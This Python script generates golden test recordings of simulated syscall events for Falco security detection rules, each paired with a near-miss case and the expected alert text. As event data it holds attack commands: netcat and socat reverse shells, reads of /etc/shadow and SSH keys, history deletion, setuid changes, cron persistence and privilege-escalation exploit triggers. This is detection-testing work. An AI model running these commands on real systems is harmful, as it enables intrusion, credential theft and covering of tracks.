"""Writes the golden recordings for stock Falco rules: <slug>.jsonl (must fire), <slug>.miss.jsonl (near miss).

Each case is a small, realistic story on one host (systemd -> sshd -> bash login shell -> a command) written as
a replay recording (docs/replay-format.md). ``cases.json`` holds, per case, the rule, its rules file and the
exact output string Falco produces for the firing event -- written out by hand from the rule's output template
and Falco's field semantics (aname walks the parent chain; cmdline is comm + args; loginuid unset is -1;
missing values are <NA>), never computed by syswarden. Run ``python tests/rules/golden/generate.py`` after
editing a case; the recordings are committed.
"""
from __future__ import annotations

import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
T0 = 1_700_000_000_000_000_000
SEC = 1_000_000_000
CID = "3ad7b26ded6d"
O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC, O_APPEND = 0, 1, 0o100, 0o1000, 0o2000


def thread(tid: int, ptid: int, comm: str, exepath: str, args: list[str], *, exe: str | None = None,
           cwd: str = "/root", uid: int = 0, loginuid: int = 0, tty: int = 34816, start_ts: int = T0 - 60 * SEC,
           container_id: str = "", **extra: Any) -> dict[str, Any]:
    return {"kind": "thread", "tid": tid, "pid": tid, "ptid": ptid, "comm": comm, "exe": exe or exepath,
            "exepath": exepath, "args": args, "cwd": cwd, "uid": uid, "gid": 0, "loginuid": loginuid, "tty": tty,
            "start_ts": start_ts, "container_id": container_id, **extra}


SYSTEMD = thread(1, 0, "systemd", "/usr/lib/systemd/systemd", [], exe="/sbin/init", cwd="/", loginuid=-1, tty=0,
                 start_ts=T0 - 86400 * SEC)
SSHD = thread(500, 1, "sshd", "/usr/sbin/sshd", ["-D"], cwd="/", loginuid=-1, tty=0, start_ts=T0 - 3600 * SEC)
BASH = thread(600, 500, "bash", "/usr/bin/bash", [], exe="-bash", start_ts=T0 - 600 * SEC)
HOST = [SYSTEMD, SSHD, BASH]


def child(comm: str, exepath: str, args: list[str], **kw: Any) -> dict[str, Any]:
    """The command the login shell runs (tid 700)."""
    return thread(700, kw.pop("ptid", 600), comm, exepath, args, **kw)


FORKED_BASH = child("bash", "/usr/bin/bash", [], exe="-bash")


def event(etype: str, tid: int, params: dict[str, Any], res: int = 0, num: int = 1) -> dict[str, Any]:
    return {"kind": "event", "num": num, "ts": T0 + num * 1000, "tid": tid, "type": etype, "dir": "<", "res": res,
            "params": params}


def openat(tid: int, path: str, flags: int, fd: int = 3) -> dict[str, Any]:
    return event("openat", tid, {"fd": fd, "dirfd": -100, "name": path, "flags": flags, "mode": 0o644, "dev": 0,
                                 "ino": 0}, res=fd)


def execve(tid: int, ptid: int, comm: str, exepath: str, args: list[str], *, loginuid: int = 0, tty: int = 34816,
           uid: int = 0, cwd: str = "/root", flags: int = 1) -> dict[str, Any]:
    return event("execve", tid, {
        "res": 0, "exe": exepath, "args": args, "tid": tid, "pid": tid, "ptid": ptid, "cwd": cwd, "comm": comm,
        "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"], "tty": tty,
        "loginuid": loginuid, "flags": flags, "cap_inheritable": 0, "cap_permitted": 0, "cap_effective": 0,
        "uid": uid, "gid": 0, "trusted_exepath": exepath, "filename": exepath})


def tail(evt_type: str, process: str, exepath: str, parent: str, command: str, *, user: str = "root", uid: int = 0,
         loginuid: int = 0, tty: int = 34816) -> str:
    """The tail every stable rule's output shares."""
    return (f"evt_type={evt_type} user={user} user_uid={uid} user_loginuid={loginuid} process={process} "
            f"proc_exepath={exepath} parent={parent} command={command} terminal={tty}")


CASES: list[dict[str, Any]] = []


def case(slug: str, rule: str, file: str, snapshot: list[dict[str, Any]], fire: list[dict[str, Any]],
         miss: list[dict[str, Any]], output: str, miss_snapshot: list[dict[str, Any]] | None = None) -> None:
    CASES.append({"slug": slug, "rule": rule, "file": file, "snapshot": snapshot, "fire": fire, "miss": miss,
                  "miss_snapshot": miss_snapshot or snapshot, "output": output})


STABLE, INCUBATING, SANDBOX = "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"

# ---------------------------------------------------------------------------------------------------- stable
CAT = child("cat", "/usr/bin/cat", ["/etc/shadow"])
case("read_sensitive_file_untrusted", "Read sensitive file untrusted", STABLE, [*HOST, CAT],
     [openat(700, "/etc/shadow", O_RDONLY)], [openat(700, "/etc/hosts", O_RDONLY)],
     "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd "
     "gggparent=<NA> " + tail("openat", "cat", "/usr/bin/cat", "bash", "cat /etc/shadow"))

NGINX_OLD = thread(800, 1, "nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], cwd="/", loginuid=-1, tty=0,
                   start_ts=T0 - 60 * SEC)
NGINX_NEW = dict(NGINX_OLD, start_ts=T0 - 1 * SEC)
case("read_sensitive_file_trusted_after_startup", "Read sensitive file trusted after startup", STABLE,
     [SYSTEMD, NGINX_OLD], [openat(800, "/etc/shadow", O_RDONLY)], [openat(800, "/etc/shadow", O_RDONLY)],
     "Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=systemd "
     "gparent=<NA> ggparent=<NA> gggparent=<NA> "
     + tail("openat", "nginx", "/usr/sbin/nginx", "systemd", "nginx -g daemon off;", loginuid=-1, tty=0),
     miss_snapshot=[SYSTEMD, NGINX_NEW])

case("search_private_keys", "Search Private Keys or Passwords", STABLE, [*HOST, FORKED_BASH],
     [execve(700, 600, "grep", "/usr/bin/grep", ["-r", "BEGIN RSA PRIVATE", "/home"])],
     [execve(700, 600, "grep", "/usr/bin/grep", ["-r", "TODO", "/home"])],
     "Grep private keys or passwords activities found | "
     + tail("execve", "grep", "/usr/bin/grep", "bash", "grep -r BEGIN RSA PRIVATE /home") + " exe_flags=EXE_WRITABLE")

case("clear_log_activities", "Clear Log Activities", STABLE, HOST,
     [openat(600, "/var/log/syslog", O_WRONLY | O_CREAT | O_TRUNC)],
     [openat(600, "/var/log/syslog", O_WRONLY | O_APPEND)],
     "Log files were tampered | file=/var/log/syslog " + tail("openat", "bash", "/usr/bin/bash", "sshd", "bash"))

case("remove_bulk_data", "Remove Bulk Data from Disk", STABLE, [*HOST, FORKED_BASH],
     [execve(700, 600, "shred", "/usr/bin/shred", ["-u", "/root/secrets.txt"])],
     [execve(700, 600, "rm", "/usr/bin/rm", ["-f", "/root/secrets.txt"])],
     "Bulk data has been removed from disk | file=<NA> "
     + tail("execve", "shred", "/usr/bin/shred", "bash", "shred -u /root/secrets.txt") + " exe_flags=EXE_WRITABLE")

LN_S = child("ln", "/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/sh"])
case("create_symlink_over_sensitive_files", "Create Symlink Over Sensitive Files", STABLE, [*HOST, LN_S],
     [event("symlinkat", 700, {"res": 0, "target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/sh"})],
     [event("symlinkat", 700, {"res": 0, "target": "/etc/hosts", "linkdirfd": -100, "linkpath": "/tmp/sh"})],
     "Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/sh "
     + tail("symlinkat", "ln", "/usr/bin/ln", "bash", "ln -s /etc/shadow /tmp/sh"))

LN = child("ln", "/usr/bin/ln", ["/etc/shadow", "/tmp/sh"])
case("create_hardlink_over_sensitive_files", "Create Hardlink Over Sensitive Files", STABLE, [*HOST, LN],
     [event("linkat", 700, {"res": 0, "olddir": -100, "oldpath": "/etc/shadow", "newdir": -100,
                            "newpath": "/tmp/sh", "flags": 0})],
     [event("linkat", 700, {"res": 0, "olddir": -100, "oldpath": "/etc/hosts", "newdir": -100,
                            "newpath": "/tmp/sh", "flags": 0})],
     "Hardlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/sh "
     + tail("linkat", "ln", "/usr/bin/ln", "bash", "ln /etc/shadow /tmp/sh"))

GDB = child("gdb", "/usr/bin/gdb", ["-p", "1234"])
PTRACE_ATTACH, PTRACE_PEEKDATA, PTRACE_TRACEME, PTRACE_CONT = 16, 2, 0, 7
case("ptrace_attached", "PTRACE attached to process", STABLE, [*HOST, GDB],
     [event("ptrace", 700, {"res": 0, "request": PTRACE_ATTACH, "pid": 1234})],
     [event("ptrace", 700, {"res": 0, "request": PTRACE_PEEKDATA, "pid": 1234})],
     "Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash "
     + tail("ptrace", "gdb", "/usr/bin/gdb", "bash", "gdb -p 1234"))

CRACKME = child("crackme", "/tmp/crackme", [], exe="./crackme")
case("ptrace_anti_debug", "PTRACE anti-debug attempt", STABLE, [*HOST, CRACKME],
     [event("ptrace", 700, {"res": 0, "request": PTRACE_TRACEME, "pid": 0})],
     [event("ptrace", 700, {"res": 0, "request": PTRACE_CONT, "pid": 0})],
     "Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=bash "
     + tail("ptrace", "crackme", "/tmp/crackme", "bash", "crackme"))


def connect(tid: int, dport: int) -> dict[str, Any]:
    tup = {"family": "AF_INET", "sip": "10.0.0.5", "sport": 51234, "dip": "93.184.216.34", "dport": dport,
           "l4proto": "tcp"}
    return event("connect", tid, {"res": 0, "tuple": tup, "fd": 3,
                                  "addr": {"family": "AF_INET", "addr": "93.184.216.34", "port": dport}})


SSH = child("ssh", "/usr/bin/ssh", ["-p", "4444", "admin@93.184.216.34"])
SOCK = {"kind": "fd", "tid": 700, "num": 3, "type": "ipv4", "l4proto": "tcp", "flags": 1}
case("disallowed_ssh_non_standard_port", "Disallowed SSH Connection Non Standard Port", STABLE, [*HOST, SSH, SOCK],
     [connect(700, 4444)], [connect(700, 22)],
     "Disallowed SSH Connection | connection=10.0.0.5:51234->93.184.216.34:4444 lport=51234 rport=4444 fd_type=ipv4 "
     "fd_proto=tcp " + tail("connect", "ssh", "/usr/bin/ssh", "bash", "ssh -p 4444 admin@93.184.216.34"))

SHIM = thread(900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby"], cwd="/",
              loginuid=-1, tty=0)
RUNC_INIT = thread(910, 900, "runc:[2:INIT]", "/usr/bin/runc", ["init"], cwd="/", loginuid=-1, tty=34817,
                   container_id=CID)
case("terminal_shell_in_container", "Terminal shell in container", STABLE, [SYSTEMD, SHIM, RUNC_INIT],
     [execve(910, 900, "bash", "/usr/bin/bash", [], loginuid=-1, tty=34817, cwd="/")],
     [execve(910, 900, "bash", "/usr/bin/bash", [], loginuid=-1, tty=0, cwd="/")],
     "A shell was spawned in a container with an attached terminal | "
     + tail("execve", "bash", "/usr/bin/bash", "containerd-shim", "bash", loginuid=-1, tty=34817)
     + " exe_flags=EXE_WRITABLE")

CSHELL = thread(920, 910, "sh", "/usr/bin/dash", [], cwd="/", loginuid=-1, tty=0, container_id=CID)
CCHILD = thread(921, 920, "sh", "/usr/bin/dash", [], cwd="/", loginuid=-1, tty=0, container_id=CID)
case("netcat_rce_in_container", "Netcat Remote Code Execution in Container", STABLE,
     [SYSTEMD, SHIM, dict(RUNC_INIT, comm="sh", exepath="/usr/bin/dash", args=[]), CSHELL, CCHILD],
     [execve(921, 920, "nc", "/usr/bin/nc", ["-e", "/bin/sh", "10.0.0.9", "4444"], loginuid=-1, tty=0, cwd="/")],
     [execve(921, 920, "nc", "/usr/bin/nc", ["-zv", "10.0.0.9", "80"], loginuid=-1, tty=0, cwd="/")],
     "Netcat runs inside container that allows remote code execution | "
     + tail("execve", "nc", "/usr/bin/nc", "sh", "nc -e /bin/sh 10.0.0.9 4444", loginuid=-1, tty=0)
     + " exe_flags=EXE_WRITABLE")

# ---------------------------------------------------------------------------------------------------- incubating
PY_EVIL = child("python3", "/usr/bin/python3.11", ["evil.py"], exe="python3")
case("modify_shell_configuration_file", "Modify Shell Configuration File", INCUBATING, [*HOST, PY_EVIL],
     [openat(700, "/root/.bashrc", O_WRONLY | O_APPEND)], [openat(700, "/root/.bashrc", O_RDONLY)],
     "A shell configuration file has been modified | file=/root/.bashrc pcmdline=bash "
     + tail("openat", "python3", "/usr/bin/python3.11", "bash", "python3 evil.py"))

TEE = child("tee", "/usr/bin/tee", ["-a", "/etc/crontab"])
case("schedule_cron_jobs", "Schedule Cron Jobs", INCUBATING, [*HOST, TEE],
     [openat(700, "/etc/crontab", O_WRONLY | O_APPEND)], [openat(700, "/etc/crontab", O_RDONLY)],
     "Cron jobs were scheduled to run | file=/etc/crontab "
     + tail("openat", "tee", "/usr/bin/tee", "bash", "tee -a /etc/crontab"))

PY_STEAL = child("python3", "/usr/bin/python3.11", ["steal.py"], exe="python3")
SSH_CLIENT = child("ssh", "/usr/bin/ssh", ["git@example.com"])
case("read_ssh_information", "Read ssh information", INCUBATING, [*HOST, PY_STEAL],
     [openat(700, "/root/.ssh/id_rsa", O_RDONLY)], [openat(700, "/root/.ssh/id_rsa", O_RDONLY)],
     "ssh-related file/directory read by non-ssh program | file=/root/.ssh/id_rsa pcmdline=bash "
     + tail("openat", "python3", "/usr/bin/python3.11", "bash", "python3 steal.py"),
     miss_snapshot=[*HOST, SSH_CLIENT])

PG = thread(810, 1, "postgres", "/usr/lib/postgresql/15/bin/postgres", ["-D", "/var/lib/postgresql/15/main"],
            cwd="/var/lib/postgresql", loginuid=-1, tty=0)
PG_CHILD = thread(811, 810, "postgres", "/usr/lib/postgresql/15/bin/postgres", ["-D", "/var/lib/postgresql/15/main"],
                  cwd="/var/lib/postgresql", loginuid=-1, tty=0)
case("db_program_spawned_process", "DB program spawned process", INCUBATING, [SYSTEMD, PG, PG_CHILD],
     [execve(811, 810, "sh", "/usr/bin/dash", ["-c", "id"], loginuid=-1, tty=0, cwd="/var/lib/postgresql")],
     [execve(811, 810, "postgres", "/usr/lib/postgresql/15/bin/postgres", ["--single"], loginuid=-1, tty=0,
             cwd="/var/lib/postgresql")],
     "Database-related program spawned process other than itself | "
     + tail("execve", "sh", "/usr/bin/dash", "postgres", "sh -c id", loginuid=-1, tty=0) + " exe_flags=EXE_WRITABLE")

PY_NS = child("python3", "/usr/bin/python3.11", ["ns.py"], exe="python3")
NSENTER = child("nsenter", "/usr/bin/nsenter", ["-t", "1", "-n"])
NETNS_FD = {"kind": "fd", "tid": 700, "num": 5, "type": "file", "name": "/proc/1/ns/net", "flags": 0}
CLONE_NEWNET = 0x40000000
case("change_thread_namespace", "Change thread namespace", INCUBATING, [*HOST, PY_NS, NETNS_FD],
     [event("setns", 700, {"res": 0, "fd": 5, "nstype": CLONE_NEWNET})],
     [event("setns", 700, {"res": 0, "fd": 5, "nstype": CLONE_NEWNET})],
     "Namespace change (setns) by unexpected program | "
     + tail("setns", "python3", "/usr/bin/python3.11", "bash", "python3 ns.py"),
     miss_snapshot=[*HOST, NSENTER, dict(NETNS_FD)])

case("user_mgmt_binaries", "User mgmt binaries", INCUBATING, [*HOST, FORKED_BASH],
     [execve(700, 600, "useradd", "/usr/sbin/useradd", ["eve"])],
     [execve(700, 600, "useradd", "/usr/sbin/useradd", ["-D"])],
     "User management binary command run outside of container | gparent=sshd ggparent=systemd gggparent=<NA> "
     + tail("execve", "useradd", "/usr/sbin/useradd", "bash", "useradd eve") + " exe_flags=EXE_WRITABLE")

PY_DEV = child("python3", "/usr/bin/python3.11", ["x.py"], exe="python3")
case("create_files_below_dev", "Create files below dev", INCUBATING, [*HOST, PY_DEV],
     [openat(700, "/dev/evil", O_WRONLY | O_CREAT)], [openat(700, "/dev/null", O_WRONLY | O_CREAT)],
     "File created below /dev by untrusted program | file=/dev/evil "
     + tail("openat", "python3", "/usr/bin/python3.11", "bash", "python3 x.py"))

case("launch_network_tool_on_host", "Launch Suspicious Network Tool on Host", INCUBATING, [*HOST, FORKED_BASH],
     [execve(700, 600, "nmap", "/usr/bin/nmap", ["-sS", "10.0.0.0/24"])],
     [execve(700, 600, "ping", "/usr/bin/ping", ["-c", "1", "10.0.0.1"])],
     "Network tool launched on host | "
     + tail("execve", "nmap", "/usr/bin/nmap", "bash", "nmap -sS 10.0.0.0/24") + " exe_flags=EXE_WRITABLE")

RM = child("rm", "/usr/bin/rm", ["-f", "/root/.bash_history"])
case("delete_shell_history", "Delete or rename shell history", INCUBATING, [*HOST, RM],
     [event("unlink", 700, {"res": 0, "path": "/root/.bash_history"})],
     [event("unlink", 700, {"res": 0, "path": "/root/notes.txt"})],
     "Shell history deleted or renamed | file=<NA> name=<NA> path=/root/.bash_history oldpath=<NA> "
     + tail("unlink", "rm", "/usr/bin/rm", "bash", "rm -f /root/.bash_history"))

CHMOD = child("chmod", "/usr/bin/chmod", ["u+s", "/tmp/sh"])
case("set_setuid_bit", "Set Setuid or Setgid bit", INCUBATING, [*HOST, CHMOD],
     [event("chmod", 700, {"res": 0, "filename": "/tmp/sh", "mode": 0o4755})],
     [event("chmod", 700, {"res": 0, "filename": "/tmp/sh", "mode": 0o755})],
     "Setuid or setgid bit is set via chmod | fd=<NA> filename=/tmp/sh "
     "mode=S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID "
     + tail("chmod", "chmod", "/usr/bin/chmod", "bash", "chmod u+s /tmp/sh"))

CAP_SYS_ADMIN = 1 << 21
CUNSHARE = thread(930, 910, "unshare", "/usr/bin/unshare", ["-U", "-r", "sh"], cwd="/", loginuid=-1, tty=0,
                  container_id=CID, cap_permitted=0)
case("unshare_in_container", "Change namespace privileges via unshare", INCUBATING,
     [SYSTEMD, SHIM, dict(RUNC_INIT, comm="sh", exepath="/usr/bin/dash", args=[]), CUNSHARE],
     [event("unshare", 930, {"res": 0, "flags": 0x10000000})],
     [event("unshare", 930, {"res": 0, "flags": 0x10000000})],
     "Change namespace privileges via unshare | res=SUCCESS "
     + tail("unshare", "unshare", "/usr/bin/unshare", "sh", "unshare -U -r sh", loginuid=-1, tty=0),
     miss_snapshot=[SYSTEMD, SHIM, dict(RUNC_INIT, comm="sh", exepath="/usr/bin/dash", args=[]),
                    dict(CUNSHARE, cap_permitted=CAP_SYS_ADMIN)])

# ---------------------------------------------------------------------------------------------------- sandbox
PY_W = child("python3", "/usr/bin/python3.11", ["w.py"], exe="python3")
case("write_below_etc", "Write below etc", SANDBOX, [*HOST, PY_W],
     [openat(700, "/etc/evil.conf", O_WRONLY | O_CREAT)], [openat(700, "/etc/motd", O_WRONLY | O_CREAT)],
     "File below /etc opened for writing | file=/etc/evil.conf pcmdline=bash gparent=sshd ggparent=systemd "
     "gggparent=<NA> " + tail("openat", "python3", "/usr/bin/python3.11", "bash", "python3 w.py"))

case("write_below_binary_dir", "Write below binary dir", SANDBOX, [*HOST, PY_W],
     [openat(700, "/usr/bin/evil", O_WRONLY | O_CREAT)], [openat(700, "/usr/local/bin/evil", O_WRONLY | O_CREAT)],
     "File below a known binary directory opened for writing | file=/usr/bin/evil pcmdline=bash gparent=sshd "
     + tail("openat", "python3", "/usr/bin/python3.11", "bash", "python3 w.py"))

MKDIR = child("mkdir", "/usr/bin/mkdir", ["/usr/bin/.hidden"])
case("mkdir_binary_dirs", "Mkdir binary dirs", SANDBOX, [*HOST, MKDIR],
     [event("mkdirat", 700, {"res": 0, "dirfd": -100, "path": "/usr/bin/.hidden", "mode": 0o755})],
     [event("mkdirat", 700, {"res": 0, "dirfd": -100, "path": "/tmp/.hidden", "mode": 0o755})],
     "Directory below known binary directory created | directory=/usr/bin/.hidden "
     + tail("mkdirat", "mkdir", "/usr/bin/mkdir", "bash", "mkdir /usr/bin/.hidden"))

NGINX_MASTER = thread(800, 1, "nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], cwd="/", loginuid=-1, tty=0)
NGINX_WORKER = thread(820, 800, "nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], cwd="/", loginuid=-1, tty=0,
                      uid=33)
case("web_server_spawned_shell", "Web Server Spawned Shell", SANDBOX,
     [SYSTEMD, NGINX_MASTER, dict(NGINX_WORKER, uid=0)],
     [execve(820, 800, "sh", "/usr/bin/dash", ["-c", "id"], loginuid=-1, tty=0, cwd="/")],
     [execve(820, 800, "sh", "/usr/bin/dash", ["-c", "/usr/bin/healthcheck"], loginuid=-1, tty=0, cwd="/")],
     "Web server spawned shell | shell=sh web_server=nginx gparent=systemd ggparent=<NA> evt_type=execve user=root "
     "user_uid=0 user_loginuid=-1 command=sh -c id terminal=0 exe=/usr/bin/dash exe_flags=EXE_WRITABLE")

case("socat_rce_on_host", "Netcat/Socat Remote Code Execution on Host", SANDBOX, [*HOST, FORKED_BASH],
     [execve(700, 600, "socat", "/usr/bin/socat", ["TCP:10.0.0.9:4444", "EXEC:/bin/sh"])],
     [execve(700, 600, "socat", "/usr/bin/socat", ["-", "TCP:10.0.0.9:80"])],
     "Netcat/Socat runs on host that allows remote code execution | "
     + tail("execve", "socat", "/usr/bin/socat", "bash", "socat TCP:10.0.0.9:4444 EXEC:/bin/sh")
     + " exe_flags=EXE_WRITABLE")

case("known_cryptominer", "Known Cryptominer Process Executed", SANDBOX, [*HOST, FORKED_BASH],
     [execve(700, 600, "xmrig", "/tmp/xmrig", ["-o", "pool.example:3333"])],
     [execve(700, 600, "xmrig2", "/tmp/xmrig2", ["-o", "pool.example:3333"])],
     "Cryptominer process executed | process=xmrig exe=/tmp/xmrig evt_type=execve user=root user_uid=0 "
     "user_loginuid=0 parent=bash command=xmrig -o pool.example:3333 terminal=34816 exe_flags=EXE_WRITABLE")

USER_BASH = dict(BASH, loginuid=1000)
USER_FORK = dict(FORKED_BASH, loginuid=1000)
case("sudo_potential_privilege_escalation", "Sudo Potential Privilege Escalation", SANDBOX,
     [SYSTEMD, SSHD, USER_BASH, USER_FORK],
     [execve(700, 600, "sudoedit", "/usr/bin/sudo", ["-s", "\\"], loginuid=1000)],
     [execve(700, 600, "sudoedit", "/usr/bin/sudo", ["-s", "/etc/hosts"], loginuid=1000)],
     "Detect Sudo Privilege Escalation Exploit (CVE-2021-3156) | "
     + tail("execve", "sudoedit", "/usr/bin/sudo", "bash", "sudoedit -s \\", loginuid=1000)
     + " exe_flags=EXE_WRITABLE")

case("polkit_pkexec", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", SANDBOX,
     [SYSTEMD, SSHD, USER_BASH, USER_FORK],
     [execve(700, 600, "pkexec", "/usr/bin/pkexec", [], loginuid=1000)],
     [execve(700, 600, "pkexec", "/usr/bin/pkexec", ["/bin/true"], loginuid=1000)],
     "Detect Polkit pkexec Local Privilege Escalation Exploit (CVE-2021-4034) | args= "
     + tail("execve", "pkexec", "/usr/bin/pkexec", "bash", "pkexec", loginuid=1000) + " exe_flags=EXE_WRITABLE")


def write(path: Path, snapshot: list[dict[str, Any]], events: list[dict[str, Any]]) -> None:
    lines = [{"syswarden_replay": 1, "hostname": "golden-host"}, *snapshot, *events]
    path.write_text("".join(json.dumps(obj, sort_keys=False) + "\n" for obj in lines))


def main() -> None:
    manifest = []
    for c in CASES:
        write(HERE / f"{c['slug']}.jsonl", c["snapshot"], c["fire"])
        write(HERE / f"{c['slug']}.miss.jsonl", c["miss_snapshot"], c["miss"])
        manifest.append({"slug": c["slug"], "rule": c["rule"], "file": c["file"], "output": c["output"]})
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"{len(CASES)} cases written to {HERE}")


if __name__ == "__main__":
    main()
